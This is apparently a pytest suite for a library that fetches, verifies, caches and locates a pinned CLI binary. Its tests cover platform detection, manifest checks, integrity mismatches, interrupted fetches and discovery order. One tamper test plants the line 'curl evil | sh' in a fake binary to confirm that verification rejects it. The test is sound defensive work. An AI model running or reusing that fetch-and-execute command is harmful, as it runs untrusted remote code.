"""Tests for claude_wrap._process.binary: platform detection, manifest, fetch/verify/cache, discovery."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import platform as _platform
import re
import stat
import subprocess
import sys
import tarfile
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from claude_wrap._exceptions import ClaudeSDKError, CLINotFoundError
from claude_wrap._process import binary as _binary
from claude_wrap._process.binary import (
    PLATFORMS,
    BinaryFetchError,
    BinaryInfo,
    BinaryVerificationError,
    Manifest,
    PlatformEntry,
    UnsupportedPlatformError,
    binary_info,
    binary_name,
    binary_version,
    cache_path,
    current_platform,
    detect_platform,
    find_binary,
    is_verified,
    load_manifest,
    pinned_version,
)
from claude_wrap._process.fetch import _parse_sri, ensure_binary, fetch_binary

REPO = Path(__file__).resolve().parents[2]
SCRIPT = REPO / "scripts" / "fetch_binary.py"
# The environment the suite started in (npm on PATH, the user's npm config):
# the autouse fixture below hides PATH from every test.
USER_ENV = dict(os.environ)
FAKE_VERSION = "9.9.9"

posix_only = pytest.mark.skipif(sys.platform == "win32", reason="uses sh scripts as fake binaries")


# --------------------------------------------------------------------------- helpers


def _sri(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


def _make_tarball(path: Path, members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o755 if name.endswith(("claude", "claude.exe")) else 0o644
            tar.addfile(info, io.BytesIO(data))
    raw = buf.getvalue()
    path.write_bytes(raw)
    return raw


def _fake_script(version: str, extra: str = "") -> bytes:
    return f'#!/bin/sh\n{extra}echo "{version} (Claude Code)"\n'.encode()


def _write_exe(path: Path, content: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    path.chmod(0o755)
    return path


@dataclass
class FakeRelease:
    tarball: Path
    tarball_bytes: bytes
    binary: bytes
    manifest: Manifest

    def with_entry(self, **changes: object) -> Manifest:
        """The manifest with every platform entry changed."""
        platforms = {name: replace(entry, **changes) for name, entry in self.manifest.platforms.items()}  # type: ignore[arg-type]
        return Manifest(self.manifest.package, self.manifest.version, platforms)


@pytest.fixture
def fake_release(tmp_path: Path) -> FakeRelease:
    binary = _fake_script(FAKE_VERSION)
    tarball = tmp_path / "release" / "fake-claude-code.tgz"
    tarball.parent.mkdir()
    raw = _make_tarball(
        tarball,
        {
            "package/package.json": b'{"name": "fake"}',
            "package/claude": binary,
            "package/README.md": b"readme",
        },
    )
    entry = PlatformEntry(
        integrity=_sri(raw), binary="claude", sha256=hashlib.sha256(binary).hexdigest(), size=len(binary)
    )
    platforms = {p: (replace(entry, binary="claude.exe") if p.startswith("win32") else entry) for p in PLATFORMS}
    return FakeRelease(tarball, raw, binary, Manifest("@anthropic-ai/claude-code", FAKE_VERSION, platforms))


UseManifest = Callable[[Manifest], None]


@pytest.fixture
def use_manifest(monkeypatch: pytest.MonkeyPatch) -> UseManifest:
    """Make the module (discovery included) see a given manifest."""

    def install(manifest: Manifest) -> None:
        monkeypatch.setattr(_binary, "load_manifest", lambda path=None: manifest)

    return install


@pytest.fixture(autouse=True)
def isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """No real cache, no real PATH, no bundled binary, no env overrides."""
    for var in (_binary.ENV_CLI, _binary.ENV_PREFER_PATH, _binary.ENV_PLATFORM):
        monkeypatch.delenv(var, raising=False)
    cache = tmp_path / "cache"
    monkeypatch.setenv(_binary.ENV_CACHE_DIR, str(cache))
    empty = tmp_path / "empty-path"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    monkeypatch.setattr(_binary, "_BUNDLED_DIR", tmp_path / "bundled")
    return cache


# --------------------------------------------------------------------------- platform


@pytest.mark.parametrize(
    ("sys_platform", "machine", "musl", "expected"),
    [
        ("linux", "x86_64", False, "linux-x64"),
        ("linux", "x86_64", True, "linux-x64-musl"),
        ("linux", "aarch64", False, "linux-arm64"),
        ("linux", "aarch64", True, "linux-arm64-musl"),
        ("linux", "arm64", False, "linux-arm64"),
        ("linux2", "AMD64", False, "linux-x64"),
        ("darwin", "arm64", False, "darwin-arm64"),
        ("darwin", "x86_64", False, "darwin-x64"),
        ("darwin", "arm64", True, "darwin-arm64"),  # musl only means something on Linux
        ("win32", "AMD64", False, "win32-x64"),
        ("win32", "ARM64", False, "win32-arm64"),
    ],
)
def test_detect_platform(sys_platform: str, machine: str, musl: bool, expected: str) -> None:
    assert detect_platform(sys_platform, machine, musl=musl) == expected
    assert expected in PLATFORMS


@pytest.mark.parametrize(
    ("sys_platform", "machine"),
    [("linux", "i686"), ("linux", "armv7l"), ("freebsd14", "amd64"), ("cygwin", "x86_64"), ("linux", "")],
)
def test_detect_platform_unsupported(sys_platform: str, machine: str) -> None:
    with pytest.raises(UnsupportedPlatformError, match="CLAUDE_WRAP_CLI"):
        detect_platform(sys_platform, machine)


@pytest.mark.parametrize(
    ("gnu_libc", "loaders", "musl"),
    [
        ("glibc 2.36", [], False),
        ("glibc 2.17", ["/lib/ld-musl-x86_64.so.1"], False),  # musl-tools on a glibc host
        (None, ["/lib/ld-musl-x86_64.so.1"], True),  # Alpine
        ("", ["/lib/ld-musl-aarch64.so.1"], True),
        (None, [], False),  # nothing known: assume glibc
    ],
)
def test_linux_musl_detection(gnu_libc: str | None, loaders: list[str], musl: bool) -> None:
    assert _binary._linux_is_musl(gnu_libc, loaders) is musl


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="linux detection path")
def test_current_platform_uses_injected_facts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_binary, "_gnu_libc_version", lambda: None)
    monkeypatch.setattr(_binary, "_musl_loaders", lambda: ["/lib/ld-musl-aarch64.so.1"])
    monkeypatch.setattr(_platform, "machine", lambda: "aarch64")
    _binary._detected_platform.cache_clear()
    try:
        assert current_platform() == "linux-arm64-musl"
        monkeypatch.setattr(_binary, "_gnu_libc_version", lambda: "glibc 2.36")
        monkeypatch.setattr(_platform, "machine", lambda: "x86_64")
        _binary._detected_platform.cache_clear()
        assert current_platform() == "linux-x64"
    finally:
        _binary._detected_platform.cache_clear()


def test_current_platform_env_override(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(_binary.ENV_PLATFORM, "linux-arm64-musl")
    assert current_platform() == "linux-arm64-musl"
    monkeypatch.setenv(_binary.ENV_PLATFORM, "plan9-mips")
    with pytest.raises(UnsupportedPlatformError):
        current_platform()


def test_current_platform_real_machine() -> None:
    assert current_platform() in PLATFORMS


def test_binary_name_and_cache_path(isolated: Path) -> None:
    assert binary_name("win32-x64") == "claude.exe"
    assert binary_name("win32-arm64") == "claude.exe"
    assert binary_name("linux-x64-musl") == "claude"
    assert binary_name("darwin-arm64") == "claude"
    assert cache_path("win32-arm64", "1.2.3") == isolated / "claude-code" / "1.2.3" / "win32-arm64" / "claude.exe"
    assert cache_path("linux-x64") == isolated / "claude-code" / pinned_version() / "linux-x64" / "claude"


def test_cache_root_default_uses_platformdirs(monkeypatch: pytest.MonkeyPatch) -> None:
    import platformdirs

    monkeypatch.delenv(_binary.ENV_CACHE_DIR)
    assert _binary.cache_root() == platformdirs.user_cache_path("claude-wrap")


# --------------------------------------------------------------------------- manifest


def test_real_manifest() -> None:
    manifest = load_manifest()
    assert manifest.package == "@anthropic-ai/claude-code"
    assert manifest.version == pinned_version()
    assert re.fullmatch(r"\d+\.\d+\.\d+", manifest.version)
    assert set(manifest.platforms) == set(PLATFORMS)
    for name, entry in manifest.platforms.items():
        assert entry.binary == binary_name(name)
        assert entry.integrity.startswith("sha512-")
        assert len(entry.sha256) == 64
        assert entry.size > 100_000_000


def test_manifest_package_location_wins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = json.loads((REPO / "vendor" / "claude-code.json").read_text())
    wheel, repo = tmp_path / "wheel.json", tmp_path / "repo.json"
    wheel.write_text(json.dumps({**real, "version": "1.0.0-wheel"}))
    repo.write_text(json.dumps({**real, "version": "1.0.0-repo"}))
    monkeypatch.setattr(_binary, "_MANIFEST_CANDIDATES", (wheel, repo))
    _binary._load_default_manifest.cache_clear()
    try:
        assert pinned_version() == "1.0.0-wheel"
        wheel.unlink()
        _binary._load_default_manifest.cache_clear()
        assert pinned_version() == "1.0.0-repo"
        repo.unlink()
        _binary._load_default_manifest.cache_clear()
        with pytest.raises(BinaryFetchError, match="manifest was not found"):
            load_manifest()
    finally:
        _binary._load_default_manifest.cache_clear()


def test_manifest_malformed(tmp_path: Path) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text('{"package": "x", "version": "1"}')
    with pytest.raises(BinaryFetchError, match="malformed"):
        load_manifest(bad)
    bad.write_text("not json")
    with pytest.raises(BinaryFetchError):
        load_manifest(bad)


def test_manifest_unknown_platform(fake_release: FakeRelease) -> None:
    with pytest.raises(UnsupportedPlatformError):
        fake_release.manifest.entry("plan9-mips")
    with pytest.raises(UnsupportedPlatformError):
        fetch_binary("plan9-mips", manifest=fake_release.manifest, tarball=fake_release.tarball)


# --------------------------------------------------------------------------- fetch / verify / install


def _leftovers(directory: Path) -> list[str]:
    if not directory.exists():
        return []
    return sorted(p.name for p in directory.iterdir() if p.name.startswith("."))


@posix_only
def test_install_from_tarball_atomic_marker_and_noop(fake_release: FakeRelease, isolated: Path) -> None:
    plat = current_platform()
    path = fetch_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    assert path == isolated / "claude-code" / FAKE_VERSION / plat / "claude"
    assert path.read_bytes() == fake_release.binary
    assert stat.S_IMODE(path.stat().st_mode) == 0o755
    marker = json.loads((path.parent / "claude.verified").read_text())
    assert marker["sha256"] == hashlib.sha256(fake_release.binary).hexdigest()
    assert marker["size"] == len(fake_release.binary)
    assert marker["version"] == FAKE_VERSION and marker["platform"] == plat and marker["pinned"] is True
    assert _leftovers(path.parent) == []

    # Re-running is a no-op: nothing re-read (the tarball can even be gone), nothing rewritten.
    before = (path.stat().st_mtime_ns, (path.parent / "claude.verified").stat().st_mtime_ns)
    fake_release.tarball.unlink()
    res = ensure_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    assert res.action == "cached" and res.path == path
    assert (path.stat().st_mtime_ns, (path.parent / "claude.verified").stat().st_mtime_ns) == before

    # --verify re-hashes the existing copy.
    res = ensure_binary(manifest=fake_release.manifest, verify=True)
    assert res.action == "reverified"


@posix_only
def test_force_reinstalls(fake_release: FakeRelease) -> None:
    first = ensure_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    assert first.action == "fetched"
    again = ensure_binary(manifest=fake_release.manifest, tarball=fake_release.tarball, force=True)
    assert again.action == "fetched" and again.path == first.path


def test_tarball_integrity_mismatch(fake_release: FakeRelease) -> None:
    wrong = _sri(b"something else")
    manifest = fake_release.with_entry(integrity=wrong)
    with pytest.raises(BinaryVerificationError) as info:
        fetch_binary(manifest=manifest, tarball=fake_release.tarball)
    msg = str(info.value)
    assert wrong in msg and _sri(fake_release.tarball_bytes) in msg
    assert "expected" in msg and "actual" in msg
    assert info.value.expected == wrong and info.value.actual == _sri(fake_release.tarball_bytes)
    dest = cache_path(version=FAKE_VERSION)
    assert not dest.exists()
    assert _leftovers(dest.parent) == []


def test_binary_sha256_mismatch(fake_release: FakeRelease) -> None:
    wrong = "0" * 64
    manifest = fake_release.with_entry(sha256=wrong)
    with pytest.raises(BinaryVerificationError) as info:
        fetch_binary(manifest=manifest, tarball=fake_release.tarball)
    msg = str(info.value)
    assert wrong in msg and hashlib.sha256(fake_release.binary).hexdigest() in msg
    dest = cache_path(version=FAKE_VERSION)
    assert not dest.exists() and not (dest.parent / "claude.verified").exists()
    assert _leftovers(dest.parent) == []


def test_binary_size_mismatch(fake_release: FakeRelease) -> None:
    manifest = fake_release.with_entry(size=len(fake_release.binary) + 1)
    with pytest.raises(BinaryVerificationError, match="size"):
        fetch_binary(manifest=manifest, tarball=fake_release.tarball)
    assert not cache_path(version=FAKE_VERSION).exists()


def test_tarball_without_binary(tmp_path: Path, fake_release: FakeRelease) -> None:
    tgz = tmp_path / "empty.tgz"
    raw = _make_tarball(tgz, {"package/package.json": b"{}"})
    manifest = fake_release.with_entry(integrity=_sri(raw))
    with pytest.raises(BinaryFetchError, match="no package/claude"):
        fetch_binary(manifest=manifest, tarball=tgz)
    assert _leftovers(cache_path(version=FAKE_VERSION).parent) == []


def test_missing_local_tarball(fake_release: FakeRelease, tmp_path: Path) -> None:
    with pytest.raises(BinaryFetchError, match="tarball not found"):
        fetch_binary(manifest=fake_release.manifest, tarball=tmp_path / "nope.tgz")


def test_local_tarball_needs_pinned_version(fake_release: FakeRelease) -> None:
    with pytest.raises(BinaryVerificationError, match="unpinned"):
        fetch_binary(manifest=fake_release.manifest, tarball=fake_release.tarball, version="0.0.1")


@posix_only
def test_failed_refetch_keeps_good_copy(fake_release: FakeRelease) -> None:
    path = fetch_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    bad = fake_release.with_entry(sha256="f" * 64)
    with pytest.raises(BinaryVerificationError):
        fetch_binary(manifest=bad, tarball=fake_release.tarball, force=True)
    assert path.read_bytes() == fake_release.binary
    assert (path.parent / "claude.verified").exists()
    assert _leftovers(path.parent) == []


@posix_only
def test_missing_marker_is_rehashed_not_refetched(fake_release: FakeRelease) -> None:
    path = fetch_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    (path.parent / "claude.verified").unlink()
    assert not is_verified_with(fake_release.manifest, path)
    res = ensure_binary(manifest=fake_release.manifest)  # no tarball, no npm on PATH: must not need them
    assert res.action == "reverified"
    assert (path.parent / "claude.verified").exists()


def is_verified_with(manifest: Manifest, path: Path) -> bool:
    entry = manifest.entry(current_platform())
    return _binary.marker_matches(path, entry.sha256, entry.size)


@posix_only
def test_corrupted_copy_detected_by_verify_and_replaced(fake_release: FakeRelease) -> None:
    path = fetch_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    data = bytearray(path.read_bytes())
    data[-2] ^= 0xFF  # same size: the marker check alone cannot see it
    path.write_bytes(bytes(data))
    assert ensure_binary(manifest=fake_release.manifest).action == "cached"
    res = ensure_binary(manifest=fake_release.manifest, verify=True, tarball=fake_release.tarball)
    assert res.action == "fetched"
    assert path.read_bytes() == fake_release.binary


@posix_only
def test_size_change_invalidates_marker(fake_release: FakeRelease, use_manifest: UseManifest) -> None:
    use_manifest(fake_release.manifest)
    path = fetch_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    assert is_verified(version=FAKE_VERSION)
    with path.open("ab") as f:
        f.write(b"#")
    assert not is_verified(version=FAKE_VERSION)


def test_parse_sri_prefers_sha512() -> None:
    assert _parse_sri("sha1-abc sha512-xyz sha256-def") == ("sha512", "xyz")
    with pytest.raises(BinaryVerificationError):
        _parse_sri("md5-abc")


# --------------------------------------------------------------------------- npm pack (fake npm)


def _fake_npm(
    bin_dir: Path, tarball: Path, *, fail: bool = False, noise: bool = False, hang: Path | None = None
) -> Path:
    """An `npm` on PATH that copies `tarball` to --pack-destination and prints pack JSON
    (with ``hang``: writes its pid there once the pack folder exists, and never finishes)."""
    log = bin_dir / "npm-argv.json"
    script = textwrap.dedent(
        f"""\
        #!{sys.executable}
        import json, os, shutil, sys, time
        from pathlib import Path
        args = sys.argv[1:]
        if args[:1] == ["config"]:
            print({str(bin_dir / "npm-cache")!r})
            sys.exit(0)
        Path({str(log)!r}).write_text(json.dumps(args))
        if {str(hang) if hang else None!r}:
            Path({str(hang)!r} + ".tmp").write_text(str(os.getpid()))
            os.replace({str(hang)!r} + ".tmp", {str(hang)!r})
            time.sleep(600)
        if {fail!r}:
            sys.stderr.write("npm error code E404\\nnpm error 404 Not Found - GET nowhere\\n")
            sys.exit(1)
        dest = Path(args[args.index("--pack-destination") + 1])
        assert dest.is_dir(), dest
        name = "fake-claude-code-9.9.9.tgz"
        shutil.copyfile({str(tarball)!r}, dest / name)
        if {noise!r}:
            print("> some lifecycle noise [not json]")
        print(json.dumps([{{"id": args[1], "filename": name, "integrity": "sha512-from-npm"}}], indent=2))
        """
    )
    _write_exe(bin_dir / "npm", script.encode())
    return log


@posix_only
@pytest.mark.parametrize("noise", [False, True])
def test_fetch_via_fake_npm(
    fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, isolated: Path, noise: bool
) -> None:
    bin_dir = tmp_path / "npm-bin"
    log = _fake_npm(bin_dir, fake_release.tarball, noise=noise)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    plat = current_platform()
    res = ensure_binary(manifest=fake_release.manifest)
    assert res.action == "fetched" and res.tarball is None
    assert res.path.read_bytes() == fake_release.binary
    argv = json.loads(log.read_text())
    assert argv[:4] == ["pack", f"@anthropic-ai/claude-code-{plat}@{FAKE_VERSION}", "--json", "--ignore-scripts"]
    assert argv[4] == "--pack-destination"
    pack_dir = Path(argv[5])
    assert pack_dir.parent == res.path.parent and not pack_dir.exists()  # temp dir cleaned up
    assert not any(a.startswith("--registry") for a in argv)  # the user's npm config decides
    assert _leftovers(res.path.parent) == []
    # Warm: npm is not run again.
    log.unlink()
    assert ensure_binary(manifest=fake_release.manifest).action == "cached"
    assert not log.exists()


@posix_only
def test_a_fetch_removes_what_an_interrupted_one_left(
    fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, isolated: Path
) -> None:
    # A fetch killed outright (SIGKILL, power loss) cannot clean up after
    # itself; the next one does, under the cache's fetch lock.
    bin_dir = tmp_path / "npm-bin"
    _fake_npm(bin_dir, fake_release.tarball)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    folder = cache_path(version=FAKE_VERSION).parent
    (folder / ".npm-pack-k1ll3d" / "package").mkdir(parents=True)
    (folder / ".npm-pack-k1ll3d" / "fake.tgz").write_bytes(b"half a tarball")
    (folder / ".claude.k1ll3d.partial").write_bytes(b"half a binary")
    (folder / "unrelated.txt").write_text("kept")
    res = ensure_binary(manifest=fake_release.manifest)
    assert res.action == "fetched" and res.path.read_bytes() == fake_release.binary
    assert _leftovers(folder) == []
    assert (folder / "unrelated.txt").read_text() == "kept"


@posix_only
def test_a_fetch_reports_its_progress(
    fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, isolated: Path
) -> None:
    bin_dir = tmp_path / "npm-bin"
    _fake_npm(bin_dir, fake_release.tarball)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    reports: list[tuple[int, float]] = []
    ensure_binary(manifest=fake_release.manifest, progress=lambda done, seconds: reports.append((done, seconds)))
    assert reports and reports[-1][0] == fake_release.tarball.stat().st_size
    assert [seconds for _, seconds in reports] == sorted(seconds for _, seconds in reports)


def test_fetch_progress_is_one_status_line() -> None:
    import io

    from claude_wrap._cli import _FetchProgress

    out = io.StringIO()
    shown = _FetchProgress(out)
    shown(1_500_000, 2.0)
    shown(3_000_000, 3.0)
    shown.clear()
    assert out.getvalue() == (
        "\r\033[K  fetching with npm: 1.5 MB, 0.8 MB/s, 2 s\r\033[K  fetching with npm: 3.0 MB, 1.0 MB/s, 3 s\r\033[K"
    )


@posix_only
@pytest.mark.parametrize("how", ["SIGTERM", "SIGHUP", "SIGINT"])
def test_an_interrupted_fetch_leaves_nothing_in_the_cache(tmp_path: Path, how: str) -> None:
    import signal

    from _procs import wait_until

    bin_dir = tmp_path / "npm-bin"
    started = tmp_path / "npm-started"
    _fake_npm(bin_dir, tmp_path / "never-used.tgz", hang=started)
    cache = tmp_path / "cache"
    env = {**USER_ENV, _binary.ENV_CACHE_DIR: str(cache), "PYTHONPATH": str(REPO)}
    env["PATH"] = f"{bin_dir}{os.pathsep}{USER_ENV['PATH']}"
    proc = subprocess.Popen(
        [sys.executable, str(SCRIPT)], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        wait_until(started.exists, 120, "npm pack running")
        npm = int(started.read_text())
        proc.send_signal(getattr(signal, how))
        _, err = proc.communicate(timeout=120)
    finally:
        proc.kill()
        proc.communicate()
    assert proc.returncode == 128 + getattr(signal, how), err
    assert "interrupted; nothing was installed" in err
    assert [p.name for p in cache.rglob("*") if p.name != ".fetch.lock"] == []  # no folder, no partial file
    with pytest.raises(ProcessLookupError):
        os.kill(npm, 0)  # npm was stopped and reaped with it


@posix_only
def test_fake_npm_failure_carries_stderr(
    fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, isolated: Path
) -> None:
    bin_dir = tmp_path / "npm-bin"
    _fake_npm(bin_dir, fake_release.tarball, fail=True)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    with pytest.raises(BinaryFetchError) as info:
        fetch_binary(manifest=fake_release.manifest)
    assert info.value.returncode == 1
    assert info.value.stderr is not None and "404 Not Found" in info.value.stderr
    assert "404 Not Found" in str(info.value) and "npm pack" in str(info.value)
    assert not (isolated / "claude-code" / FAKE_VERSION).exists()  # no empty dirs left behind


@posix_only
def test_fake_npm_serving_tampered_tarball(
    fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tampered = tmp_path / "tampered.tgz"
    _make_tarball(tampered, {"package/claude": _fake_script(FAKE_VERSION, "curl evil | sh\n")})
    bin_dir = tmp_path / "npm-bin"
    _fake_npm(bin_dir, tampered)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    with pytest.raises(BinaryVerificationError, match="integrity"):
        fetch_binary(manifest=fake_release.manifest)
    assert not cache_path(version=FAKE_VERSION).exists()


def test_no_npm_on_path(fake_release: FakeRelease) -> None:
    with pytest.raises(BinaryFetchError, match="npm was not found"):
        fetch_binary(manifest=fake_release.manifest)


def test_no_registry_hard_coded() -> None:
    for source in (REPO / "claude_wrap" / "_process" / "binary.py", SCRIPT):
        text = source.read_text()
        assert "://" not in text
        assert "--registry" not in text


# --------------------------------------------------------------------------- discovery


@dataclass
class Layout:
    cli: Path
    env: Path
    bundled: Path
    cache: Path
    path_dir: Path
    on_path: Path


@pytest.fixture
def layout(
    tmp_path: Path, fake_release: FakeRelease, use_manifest: UseManifest, monkeypatch: pytest.MonkeyPatch
) -> Layout:
    """One candidate binary at every discovery step."""
    use_manifest(fake_release.manifest)
    name = "claude.exe" if sys.platform == "win32" else "claude"
    cli = _write_exe(tmp_path / "explicit" / name, _fake_script("1.0.0"))
    env = _write_exe(tmp_path / "from-env" / name, _fake_script("2.0.0"))
    bundled = _write_exe(tmp_path / "bundled" / name, _fake_script("3.0.0"))
    cache = fetch_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    path_dir = tmp_path / "path-bin"
    on_path = _write_exe(path_dir / name, _fake_script("5.0.0"))
    monkeypatch.setenv("PATH", f"{path_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv(_binary.ENV_CLI, str(env))
    return Layout(cli, env, bundled, cache, path_dir, on_path)


@posix_only
def test_discovery_order(layout: Layout, monkeypatch: pytest.MonkeyPatch) -> None:
    assert binary_info(layout.cli) == BinaryInfo(layout.cli, "cli_path", "1.0.0")
    assert binary_info() == BinaryInfo(layout.env, "env", "2.0.0")
    monkeypatch.delenv(_binary.ENV_CLI)
    assert binary_info() == BinaryInfo(layout.bundled, "bundled", "3.0.0")
    layout.bundled.unlink()
    assert binary_info() == BinaryInfo(layout.cache, "cache", FAKE_VERSION)
    (layout.cache.parent / "claude.verified").unlink()  # unverified cache copies are ignored
    assert binary_info() == BinaryInfo(layout.on_path, "path", "5.0.0")
    layout.on_path.unlink()
    with pytest.raises(CLINotFoundError):
        find_binary()


@posix_only
def test_prefer_path(layout: Layout, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(_binary.ENV_CLI)
    assert find_binary() == layout.bundled
    assert find_binary(prefer_path=True) == layout.on_path
    monkeypatch.setenv(_binary.ENV_PREFER_PATH, "1")
    assert binary_info(version=False) == BinaryInfo(layout.on_path, "path", None)
    assert find_binary(prefer_path=False) == layout.bundled  # the argument beats the env
    # Explicit choices still win over PATH.
    assert find_binary(layout.cli) == layout.cli
    monkeypatch.setenv(_binary.ENV_CLI, str(layout.env))
    assert find_binary() == layout.env
    monkeypatch.delenv(_binary.ENV_CLI)
    # Nothing on PATH: prefer_path falls back to bundled, then cache.
    layout.on_path.unlink()
    assert find_binary() == layout.bundled
    layout.bundled.unlink()
    assert find_binary() == layout.cache


@posix_only
def test_missing_explicit_path_is_an_error(layout: Layout, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    missing = tmp_path / "nowhere" / "claude"
    with pytest.raises(CLINotFoundError) as info:
        find_binary(missing)
    assert str(info.value) == f"Claude Code not found at: {missing}"  # the official words
    assert info.value.cli_path == str(missing)
    monkeypatch.setenv(_binary.ENV_CLI, str(missing))
    with pytest.raises(CLINotFoundError, match="CLAUDE_WRAP_CLI"):
        find_binary()
    with pytest.raises(CLINotFoundError):
        find_binary(prefer_path=True)
    not_exec = tmp_path / "not-exec"
    not_exec.write_text("#!/bin/sh\n")
    with pytest.raises(CLINotFoundError, match="not executable"):
        find_binary(not_exec)
    with pytest.raises(CLINotFoundError):
        find_binary(tmp_path)  # a directory


@posix_only
def test_cli_path_forms(layout: Layout, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(_binary.ENV_CLI)
    # A bare command name is looked up on PATH.
    assert binary_info("claude").path == layout.on_path
    assert binary_info("claude").source == "cli_path"
    # A relative path is returned absolute (the transport may spawn with another cwd).
    monkeypatch.chdir(layout.cli.parent.parent)
    found = find_binary(Path(layout.cli.parent.name) / layout.cli.name)
    assert found.is_absolute() and found == layout.cli
    # Empty env var counts as unset.
    monkeypatch.setenv(_binary.ENV_CLI, "")
    assert find_binary() == layout.bundled


def test_nothing_found_message(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(CLINotFoundError) as info:
        find_binary()
    msg = str(info.value)
    assert "  - claude-wrap fetch-binary  (or python -m claude_wrap fetch-binary;" in msg
    assert "CLAUDE_WRAP_CLI=/path/to/claude" in msg
    assert "cli_path=" in msg
    assert "`claude` is on your PATH" in msg
    assert pinned_version() in msg
    assert isinstance(info.value, ClaudeSDKError)


@posix_only
def test_unverified_cache_copy_is_mentioned(fake_release: FakeRelease, use_manifest: UseManifest) -> None:
    use_manifest(fake_release.manifest)
    path = fetch_binary(manifest=fake_release.manifest, tarball=fake_release.tarball)
    (path.parent / "claude.verified").unlink()
    with pytest.raises(CLINotFoundError, match="run `claude-wrap fetch-binary --verify`"):
        find_binary()


@posix_only
def test_binary_version_failures(tmp_path: Path) -> None:
    assert binary_version(_write_exe(tmp_path / "fails", b"#!/bin/sh\nexit 3\n")) is None
    assert binary_version(_write_exe(tmp_path / "silent", b"#!/bin/sh\n")) is None
    assert binary_version(tmp_path / "missing") is None
    assert binary_version(_write_exe(tmp_path / "ok", b"#!/bin/sh\necho\necho '2.1.328 (Claude Code)'\n")) == "2.1.328"


@posix_only
def test_find_binary_is_cheap(layout: Layout, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(_binary.ENV_CLI)
    layout.bundled.unlink()
    calls: list[object] = []
    monkeypatch.setattr(subprocess, "run", lambda *a, **k: calls.append(a))
    from claude_wrap._process import fetch as _fetch

    monkeypatch.setattr(_fetch, "_hash_file", lambda *a, **k: calls.append(a))
    for _ in range(20):
        assert find_binary() == layout.cache
    # Discovery runs before every spawn: it must neither hash nor start a process.
    assert calls == []


def test_import_is_light() -> None:
    code = "import sys, claude_wrap._process.binary; print(sorted(m for m in ('tarfile', 'platformdirs') if m in sys.modules))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"


# --------------------------------------------------------------------------- the script


def _run_script(*args: str, cache: Path) -> subprocess.CompletedProcess[str]:
    # PYTHONPATH: the script imports this checkout's claude_wrap, not another installed copy.
    env = {**USER_ENV, _binary.ENV_CACHE_DIR: str(cache), "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, str(SCRIPT), *args], check=False, capture_output=True, text=True, env=env, timeout=300
    )


def test_script_rejects_bad_tarball(fake_release: FakeRelease, tmp_path: Path) -> None:
    # The fake tarball does not match the real pinned manifest.
    proc = _run_script("--from-tarball", str(fake_release.tarball), "--platform", "linux-x64", cache=tmp_path / "c")
    assert proc.returncode == 1
    assert "failed verification" in proc.stderr and "expected" in proc.stderr
    assert not (tmp_path / "c" / "claude-code" / pinned_version() / "linux-x64" / "claude").exists()
    proc = _run_script("--from-tarball", str(tmp_path / "missing.tgz"), cache=tmp_path / "c")
    assert proc.returncode == 1 and "tarball not found" in proc.stderr
    proc = _run_script("--platform", "plan9-mips", cache=tmp_path / "c")
    assert proc.returncode == 1 and "plan9-mips" in proc.stderr


# --------------------------------------------------------------------------- the real binary


@pytest.fixture(scope="session")
def real_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The real pinned binary for this machine, fetched into an empty cache as users fetch it.

    ``fetch_binary.py`` runs ``npm pack`` through the user's npm configuration,
    so after ``make binary`` the tarball comes from npm's own cache.
    """
    cache = tmp_path_factory.mktemp("real-cache")
    proc = _run_script(cache=cache)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(
        f"fetched and verified Claude Code {pinned_version()} ({current_platform()}) with npm pack"
    )
    return cache


def _real_binary(cache: Path) -> Path:
    platform = current_platform()
    return cache / "claude-code" / pinned_version() / platform / binary_name(platform)


